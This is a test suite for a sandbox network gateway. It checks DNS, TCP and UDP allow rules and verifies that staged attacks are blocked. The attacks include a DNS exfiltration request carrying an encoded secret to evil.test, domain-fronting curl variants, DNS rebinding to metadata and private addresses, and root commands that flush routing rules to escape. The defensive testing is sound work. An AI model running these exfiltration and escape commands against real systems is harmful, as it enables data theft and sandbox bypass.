/**
 * Jails in the lab, as root and as an ordinary user. Every attack is first made without the control, from the lab's host itself
 * or under a policy that allows it, to show that it works.
 */

import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { NetDenied, NetworkEvent } from "../../src/network/events.ts";
import { requireOr } from "../helpers/requirement.ts";
import type { LabEvent } from "../lab/events.ts";
import { Lab } from "../lab/lab.ts";
import { labMissing } from "../lab/requirements.ts";
import { address, host } from "../lab/zone.ts";
import { Harness, type JailOptions, type JailResult } from "./harness.ts";
import type { RuleTexts } from "./policy.ts";
import { Product } from "./product.ts";

/** The talk's policy. */
const deck: RuleTexts = { listen: [80], tcp: ["1.1.1.1:"], udp: ["*:53"], dns: ["*.npm.org:*", "*.python.org:*"] };

const curl = "curl -sS --max-time 10";

let lab: Lab;
let harness: Harness;
let product: Product;

function denials(events: readonly NetworkEvent[]): readonly NetDenied[] {
	return events.filter((event) => event.kind === "net.denied");
}

/** Names asked of the Internet's DNS servers. */
function asked(events: readonly LabEvent[]): readonly string[] {
	return events.flatMap((event) => (event.kind === "dns" ? [event.name] : []));
}

function visited(events: readonly LabEvent[]): readonly string[] {
	return events.flatMap((event) => (event.kind === "http" ? [event.host] : []));
}

/** A script for Node, as an argument of a shell command. */
function node(script: string): string {
	return `node -e '${script}'`;
}

describe.skipIf(requireOr(labMissing()))("the network gateway", () => {
	beforeAll(async () => {
		lab = await Lab.start();
		harness = await Harness.build(lab);
		product = new Product(lab);
	});
	afterAll(async () => {
		await lab?.[Symbol.asyncDispose]();
	});

	/** What the Internet received meanwhile. */
	async function observed<T>(work: () => Promise<T>): Promise<readonly [T, readonly LabEvent[]]> {
		const mark = lab.log.length;
		const result = await work();
		return [result, await lab.since(mark)];
	}

	describe.each([
		["root", (texts: RuleTexts, script: string, options?: JailOptions) => harness.run(texts, script, options)],
		[
			"an ordinary user",
			(texts: RuleTexts, script: string, options?: JailOptions) => harness.runAsNobody(texts, script, options),
		],
	] as const)(
		"as %s",
		(_who, run: (texts: RuleTexts, script: string, options?: JailOptions) => Promise<JailResult>) => {
			it("plays the talk: npm.org is reached", async () => {
				const { status, stdout, stderr } = await run(deck, "wget -O- npm.org");
				expect(stderr).toMatch(/Resolving npm.org.*\n.*Connecting to npm.org.*:80\.\.\. connected/);
				expect(stderr).toMatch(/Connecting to npm.org.*:443\.\.\. connected/);
				expect(stdout).toBe("hello from npm.org, 0 bytes\n");
				expect(status).toBe(0);
			});

			it("plays the talk: python.org redirects to www.python.org, which is a chain of names", async () => {
				const { stdout, stderr } = await run(deck, "wget -O- python.org");
				expect(stderr).toContain("Location: https://www.python.org/");
				expect(stdout).toBe("hello from www.python.org, 0 bytes\n");
			});

			it("plays the talk: pypi.org resolves truly and is refused at once, by both families", async () => {
				expect((await lab.hostExec(["curl", "-sSL", "pypi.org"])).stdout).toBe("hello from pypi.org, 0 bytes\n");
				const [{ status, stderr }, events] = await observed(() => run(deck, "wget -O- pypi.org"));
				expect(stderr).toContain(`Connecting to pypi.org (pypi.org)|${address.pypi}|:80... failed: Permission denied.`);
				expect(stderr).toContain(
					`Connecting to pypi.org (pypi.org)|${address.pypi6}|:80... failed: Permission denied.`,
				);
				expect(status).toBe(4);
				expect(visited(events)).toEqual([]);
			});

			it("lets an address rule through at any port, and no other address", async () => {
				const { stdout } = await run(deck, `${curl} 1.1.1.1:8080; ${curl} 8.8.8.8; echo $?`);
				expect(stdout).toBe("hello from 1.1.1.1, 0 bytes\n7\n");
			});

			it("carries UDP to where a rule allows, from the right sender, and refuses the rest", async () => {
				const exchange = (port: number) =>
					`const s = require("dgram").createSocket("udp4"); s.on("error", (e) => { console.log(e.code); s.close(); });` +
					`s.connect(${port}, "echo.test", (e) => { if (e) { console.log(e.code); return s.close(); } s.send("ping"); });` +
					`s.on("message", (m) => { console.log(String(m)); s.close(); });`;
				const rules: RuleTexts = { udp: ["*:7"], dns: ["echo.test:7"] };
				expect((await run(rules, node(exchange(7)))).stdout).toBe("ping\n");
				const refused = await run({ udp: ["*:8"], dns: ["echo.test:7"] }, node(exchange(7)));
				expect(refused.stdout).toBe("EACCES\n");
			});
		},
	);

	it("takes every kind of rule", async () => {
		const rules: RuleTexts = {
			tcp: ["*:443", "10.1.0.0/16:5432", "[2001:db8::/32]:8000-8100", "8.0.0.0/5:80", "0.0.0.0/0:81", "[::/0]:82"],
			udp: ["*:123", "9.9.9.9:", "[fd00::/8]:1-2"],
			dns: [
				"npm.org:443",
				"*.python.org:80",
				"python.org:8443",
				...Array.from({ length: 100 }, (_, i) => `n${i}.test:${i + 1000}`),
			],
		};
		expect(await harness.run(rules, "exit 7")).toMatchObject({ status: 7, stderr: "" });
		expect(await harness.run({}, `${curl} http://1.1.1.1; ${curl} http://npm.org; exit 8`)).toMatchObject({
			status: 8,
			stdout: "",
		});
	});

	it("answers 1,000 UDP datagrams of all sizes by both families of addresses", async () => {
		const script =
			`const s = require("dgram").createSocket("udp4"); let got = 0; const sizes = [0, 1, 1400, 1500, 9000, 65507];` +
			`s.connect(7, "${address.udp}", () => { let i = 0; const next = () => s.send(Buffer.alloc(sizes[i++ % 6], "x")); next();` +
			`s.on("message", (m) => { if (m.length !== sizes[got++ % 6]) throw m.length; if (got === 1000) { console.log(got); s.close(); } else next(); }); });`;
		const { stdout, stderr, events } = await harness.run({ udp: [`${address.udp}:7`] }, node(script));
		expect(stderr).toBe("");
		expect(stdout).toBe("1000\n");
		expect(events).toContainEqual(
			expect.objectContaining({ kind: "net.connect", protocol: "udp", rule: `udp ${address.udp}:7` }),
		);
	});

	it("finds in S what ip(8) would have made there, where the executor has made it by netlink", async () => {
		const rules: RuleTexts = {
			tcp: ["*:443", "10.1.0.0/16:5432", "[2001:db8::/32]:8000-8100", "8.0.0.0/5:80", "0.0.0.0/0:81", "[::/0]:82"],
			udp: ["*:123", "9.9.9.9:", "[fd00::/8]:1-2"],
			dns: ["npm.org:443", "*.python.org:80", ...Array.from({ length: 60 }, (_, i) => `n${i}.test:${i + 1000}`)],
		};
		const show =
			"for f in -4 -6; do ip $f rule; ip $f route show table all | grep -v 'ff00::\\|fe80::'; ip $f -br addr; done";
		const byTool = await harness.run(rules, show);
		const byProduct = await product.run(rules, show);
		const plain = (text: string) =>
			text
				.replaceAll(/@if\d+|fe80::\S+/g, "")
				.replaceAll(/[ \t]+/g, " ")
				.trim()
				.split("\n");
		expect(plain(byProduct.stdout).length).toBeGreaterThan(150);
		expect(plain(byProduct.stdout)).toEqual(plain(byTool.stdout));
	});

	it("takes more rules than the kernel takes at once", async () => {
		const rules: RuleTexts = { dns: Array.from({ length: 400 }, (_, i) => `n${i}.wild.test:${i + 80}`) };
		const { stdout, events } = await product.run(
			rules,
			`${curl} http://n0.wild.test; ${curl} http://n1.wild.test; echo $?; ip rule | wc -l`,
		);
		expect(stdout).toBe("hello from n0.wild.test, 0 bytes\n7\n407\n");
		expect(denials(events)).toHaveLength(1);
	});

	describe("names", () => {
		it("outside dns do not resolve, and no question about them leaves", async () => {
			expect((await lab.hostExec(["curl", "-s", "http://evil.test"])).stdout).toContain("hello");
			const [{ stdout, events }, received] = await observed(() =>
				harness.run({ dns: ["*.npm.org:*"] }, `${curl} http://c2VjcmV0.evil.test 2>&1; echo $?`),
			);
			expect(stdout).toMatch(/Could not resolve host[\s\S]*\n6\n$/);
			expect(asked(received)).toEqual([]);
			expect(denials(events)).toEqual([
				expect.objectContaining({
					reason: "name-not-allowed",
					destination: "c2vjcmv0.evil.test",
					wouldAllow: expect.objectContaining({ flag: "--allow-dns c2vjcmv0.evil.test:443" }),
				}),
			]);
		});

		it("outside dns do not resolve by another server either: every server is the gateway", async () => {
			const ask = (server: string) =>
				node(
					`const r = new (require("dns").promises.Resolver)(); r.setServers(["${server}"]); r.resolve4("evil.test").then(console.log, (e) => console.log(e.code))`,
				);
			expect((await lab.hostExec(["sh", "-c", ask(address.eight)])).stdout).toContain(address.eight);
			const [{ stdout }, received] = await observed(() =>
				harness.run(
					{ tcp: ["8.8.8.8:"], udp: ["8.8.8.8:53"], dns: ["npm.org:443"] },
					`${ask(address.eight)}; ${ask("203.0.113.77")}; ${ask("[2001:db8::7]")}`,
				),
			);
			expect(stdout).toBe("ENOTFOUND\nENOTFOUND\nENOTFOUND\n");
			expect(asked(received)).toEqual([]);
		});

		it("keep their ports: the kernel refuses the others before any handshake", async () => {
			const rules: RuleTexts = { dns: ["npm.org:443", "*.python.org:80"] };
			const [{ stdout }, received] = await observed(() =>
				harness.run(
					rules,
					`${curl} https://npm.org; ${curl} http://npm.org 2>&1; ${curl} http://python.org -o /dev/null -w "%{http_code}\\n"; ${curl} https://python.org 2>&1`,
				),
			);
			expect(stdout).toContain("hello from npm.org");
			expect(stdout).toMatch(
				/Failed to connect to npm.org port 80.*\n301\n.*Failed to connect to python.org port 443/s,
			);
			expect(received.filter((event) => event.kind === "connection").map(({ port }) => port)).toEqual([443, 80]);
		});

		it("that do not exist upstream do not exist in the jail; a chain of aliases works, a loop fails", async () => {
			const rules: RuleTexts = { dns: ["*.npm.org:*", "chain.test:80", "loop.test:80", "v6only.test:80"] };
			const { stdout } = await harness.run(
				rules,
				`${curl} http://none.npm.org 2>&1; ${curl} http://chain.test; ${curl} http://loop.test 2>&1; ${curl} -4 http://v6only.test`,
			);
			expect(stdout).toMatch(
				/Could not resolve host: none.npm.org\nhello from chain.test.*\n.*Could not resolve host: loop.test\nhello from v6only.test/,
			);
		});

		it("with one dead address are reached by another", async () => {
			const { stdout, events } = await harness.run({ dns: ["v6broken.test:80"] }, `${curl} http://v6broken.test`);
			expect(stdout).toContain("hello from v6broken.test");
			expect(events).toContainEqual(expect.objectContaining({ kind: "net.connect", address: address.fallback }));
		});

		it("answer by TCP when UDP has too little room, and tell other types", async () => {
			const script = node(
				`const r = require("dns").promises; (async () => { console.log((await r.resolve4("a-name-so-long-that-sixteen-of-its-addresses-need-more-than-512.test")).length); console.log(await r.resolveTxt("npm.org"));` +
					`console.log(await r.resolveMx("npm.org")); console.log(await r.reverse((await r.resolve4("npm.org"))[0])); })()`,
			);
			const { stdout } = await harness.run(deck, script);
			expect(stdout).toBe("16\n[ [ 'v=spf1 -all' ] ]\n[ { exchange: 'mail.npm.org', priority: 10 } ]\n[ 'npm.org' ]\n");
		});
	});

	describe("neighbours on one address", () => {
		const rules: RuleTexts = { dns: ["allowed.cdn.test:*"] };

		it("are told apart by name", async () => {
			expect((await lab.hostExec(["curl", "-s", "https://denied.cdn.test"])).stdout).toContain(
				"hello from denied.cdn.test",
			);
			const { stdout } = await harness.run(
				rules,
				`${curl} https://allowed.cdn.test; ${curl} https://denied.cdn.test; ${curl} https://${address.cdn}; echo $?`,
			);
			expect(stdout).toBe("hello from allowed.cdn.test, 0 bytes\n7\n");
		});

		it.each([
			["the server name of TLS", "https://denied.cdn.test --connect-to ::allowed.cdn.test:443", "server-name"],
			["the Host of HTTP", "http://allowed.cdn.test -H 'Host: denied.cdn.test'", "host-header"],
			["an absolute target", "http://allowed.cdn.test --request-target http://denied.cdn.test/", "host-header"],
			["CONNECT", "-p -x http://allowed.cdn.test:80 http://denied.cdn.test", "host-header"],
			[
				"the second request of a connection",
				"http://allowed.cdn.test --next -sS -H 'Host: denied.cdn.test' http://allowed.cdn.test",
				"host-header",
			],
		])("are not reached by %s", async (_how, args, reason) => {
			const [{ events }, received] = await observed(() =>
				harness.run(rules, `curl -s http://allowed.cdn.test/warm; curl -sS --max-time 10 ${args}`),
			);
			expect(visited(received)).not.toContain("denied.cdn.test");
			expect(received.flatMap((event) => (event.kind === "http" ? [event.sni] : []))).not.toContain("denied.cdn.test");
			expect(visited(received)).toContain("allowed.cdn.test");
			expect(denials(events)).toEqual([
				expect.objectContaining({
					reason,
					rule: "dns allowed.cdn.test:*",
					message: expect.stringContaining("denied.cdn.test"),
				}),
			]);
		});

		it("are reached by those same ways without the control", async () => {
			const front = [
				"http://allowed.cdn.test -H 'Host: denied.cdn.test'",
				"https://denied.cdn.test --connect-to ::allowed.cdn.test:443",
				"http://allowed.cdn.test --request-target http://denied.cdn.test/ -H 'Host: denied.cdn.test'",
			];
			for (const args of front)
				expect((await lab.hostExec(["sh", "-c", `${curl} ${args}`])).stdout).toContain("hello from denied.cdn.test");
			const { stdout } = await harness.run({ tcp: ["*:80"], dns: rules.dns ?? [] }, `${curl} ${front[0]}`);
			expect(stdout).toContain("hello from denied.cdn.test");
		});

		it("TLS without a server name is refused", async () => {
			const [{ events }, received] = await observed(() =>
				harness.run(rules, "echo | timeout 10 openssl s_client -connect allowed.cdn.test:443 -noservername; true"),
			);
			expect(denials(events)).toEqual([expect.objectContaining({ reason: "no-server-name" })]);
			expect(visited(received)).toEqual([]);
		});
	});

	describe("rebinding", () => {
		const names = ["loopback", "metadata", "private", "own", "mapped"].map((kind) => `rebind-${kind}.test`);

		it("bites without the control", async () => {
			for (const name of names.slice(0, 4)) {
				expect((await lab.hostExec(["curl", "-s", "--max-time", "10", `http://${name}`])).stdout).toContain(
					`hello from ${name}`,
				);
			}
		});

		it.each(names)("%s is refused", async (name) => {
			const [{ stdout, events }, received] = await observed(() =>
				harness.run({ dns: ["*.test:*"] }, `${curl} http://${name} 2>&1`),
			);
			expect(stdout).not.toContain("hello");
			expect(received.filter(({ kind }) => kind === "connection")).toEqual([]);
			expect(denials(events)).toEqual([
				expect.objectContaining({
					destination: `${name}:80`,
					reason: name === "rebind-own.test" ? "own-address" : "special-address",
				}),
			]);
		});

		it("is refused with a port open to every address, too", async () => {
			const [{ events }, received] = await observed(() =>
				harness.run(
					{ tcp: ["*:80"], dns: ["*.test:*"] },
					`${curl} http://rebind-private.test; ${curl} http://${address.private}; ${curl} http://${address.metadata}; ${curl} http://${host.v4}; true`,
				),
			);
			expect(received.filter(({ kind }) => kind === "connection")).toEqual([]);
			expect(
				denials(events)
					.map(({ reason }) => reason)
					.sort(),
			).toEqual(["own-address", "special-address"]);
		});

		it("between look-up and connection changes nothing", async () => {
			const { stdout } = await harness.run(
				{ dns: ["rebind.test:80"] },
				`${curl} http://rebind.test; sleep 6; ${curl} http://rebind.test 2>&1; echo $?`,
			);
			expect(stdout).toMatch(/^hello from rebind.test, 0 bytes\n.*\n(5[56]|7)\n$/);
		});

		it("leaves the good one of several addresses", async () => {
			const { stdout, events } = await harness.run(
				{ dns: ["rebind-mixed.test:80"] },
				`${curl} http://rebind-mixed.test`,
			);
			expect(stdout).toContain("hello from rebind-mixed.test");
			expect(events).toContainEqual(expect.objectContaining({ kind: "net.connect", address: address.rebind }));
		});

		it("is no rebinding where a rule names the address", async () => {
			const { stdout } = await harness.run(
				{ tcp: [`${address.private}:80`], dns: ["rebind-private.test:80"] },
				`${curl} http://rebind-private.test; ${curl} http://${address.private}`,
			);
			expect(stdout).toBe(`hello from rebind-private.test, 0 bytes\nhello from ${address.private}, 0 bytes\n`);
		});
	});

	describe("a program that is root in its namespace", () => {
		/** Undoes everything that S says. */
		const takeOver =
			"ip rule flush; ip -6 rule flush; ip rule add pref 1 lookup main; ip -6 rule add pref 1 lookup main; ";
		const targets = [
			address.eight,
			address.pypi,
			address.private,
			address.metadata,
			host.v4,
			`[${address.pypi6}]`,
			`[${host.v6}]`,
		];

		it("can rewrite its routes and reaches nothing more", async () => {
			for (const target of targets)
				expect((await lab.hostExec(["curl", "-s", `http://${target}`])).stdout).toContain("hello");
			const [{ stdout }, received] = await observed(() =>
				harness.run(
					deck,
					`${takeOver}for t in ${targets.join(" ")}; do ${curl} http://$t; echo $?; done 2>/dev/null; ${curl} 1.1.1.1`,
				),
			);
			expect(stdout).toBe(`${"7\n".repeat(targets.length)}hello from 1.1.1.1, 0 bytes\n`);
			expect(received.filter((event) => event.kind === "connection").map((event) => event.address)).toEqual([
				address.one,
			]);
		});

		it("is refused at once, again and again", async () => {
			const { stdout } = await harness.run(
				deck,
				`${takeOver}for i in $(seq 50); do curl -s --max-time 5 http://8.8.8.8; echo $?; done`,
			);
			expect(stdout).toBe("7\n".repeat(50));
		});

		it("finds no socket of the gateway but its DNS server, under any sender's address", async () => {
			const gateway = "198.19.255.253";
			const { stdout } = await harness.run(
				deck,
				`${takeOver}for p in 22 80 8001 8002; do curl -s --max-time 5 http://${gateway}:$p; echo $?; done;` +
					"ip addr add 10.9.9.9/32 dev eth0; curl -s --max-time 2 --interface 10.9.9.9 http://1.1.1.1; echo $?;" +
					"ip route add 127.0.0.0/8 via 198.19.255.253 table 7; ip rule add pref 0 to 127.0.0.53 lookup 7; curl -s --max-time 2 http://127.0.0.53; echo $?",
			);
			expect(
				stdout
					.split("\n")
					.slice(0, 6)
					.every((line) => line === "7" || line === "28"),
			).toBe(true);
			expect(stdout).not.toContain("hello");
		});

		it("has no power over the gateway's namespace", async () => {
			const { stdout } = await harness.run(deck, "nft list ruleset; ip -br link; nsenter -t 1 -n true 2>&1; echo $?");
			expect(stdout).not.toContain("tproxy");
			expect(stdout).not.toContain("jail0");
			expect(stdout).not.toMatch(/^0$/m);
		});
	});

	describe("connections", () => {
		it("let the server speak first", async () => {
			const script = node(
				`const s = require("net").connect(22, "ssh.test"); let all = ""; s.on("data", (d) => { all += d; if (all.length < 20) s.write("EHLO\\r\\n"); else { console.log(JSON.stringify(all)); s.end(); } });`,
			);
			const { stdout } = await harness.run({ dns: ["ssh.test:22"] }, script);
			expect(stdout).toBe('"SSH-2.0-lab\\r\\nEHLO\\r\\nEHLO\\r\\n"\n');
		});

		it("may be closed in one direction", async () => {
			const script = node(
				`const s = require("net").connect({port: 9, host: "ssh.test", allowHalfOpen: true}); s.end(Buffer.alloc(1e6)); s.on("data", (d) => process.stdout.write(d)); s.on("end", () => console.log("end"));`,
			);
			const { stdout } = await harness.run({ dns: ["ssh.test:9"] }, script);
			expect(stdout).toBe("1000000\nend\n");
		});

		it("carry much, are counted, and do not pile up", async () => {
			const { stdout, events } = await harness.run(
				deck,
				`${curl} http://1.1.1.1:8080/bytes/100000000 | wc -c; dd if=/dev/zero bs=1M count=50 status=none | ${curl} --data-binary @- http://1.1.1.1:8080`,
			);
			expect(stdout).toBe("100000000\nhello from 1.1.1.1, 52428800 bytes\n");
			const [download, upload] = events.filter((event) => event.kind === "net.close");
			expect(download?.received).toBeGreaterThan(100_000_000);
			expect(upload?.sent).toBeGreaterThan(52_428_800);
		});

		it("may be 3,000 at a time", async () => {
			const script = node(
				`let open = 0; for (let i = 0; i < 3000; i++) require("net").connect(22, "${address.ssh}").once("data", () => ++open === 3000 && (console.log("all"), process.exit())).on("error", (e) => (console.log(e.code), process.exit(1)));`,
			);
			expect((await harness.run({ tcp: [`${address.ssh}:22`] }, script)).stdout).toBe("all\n");
		});

		it("share the rate of the jail", async () => {
			const { stdout } = await harness.run(
				deck,
				`${curl} -w "%{time_total}" -o /dev/null http://1.1.1.1:8080/bytes/4000000`,
				{ bytesPerSecond: 2_000_000 },
			);
			expect(Number(stdout)).toBeGreaterThan(1.5);
		});

		it("fail where the server refuses them", async () => {
			const { stdout, events } = await harness.run(deck, `${curl} http://1.1.1.1:9999 2>/dev/null; echo $?`);
			// The reset may come before curl has seen the handshake.
			expect(stdout).toMatch(/^(5[256]|7)\n$/);
			expect(events).toContainEqual(expect.objectContaining({ kind: "net.failed", destination: "1.1.1.1:9999" }));
		});
	});
});
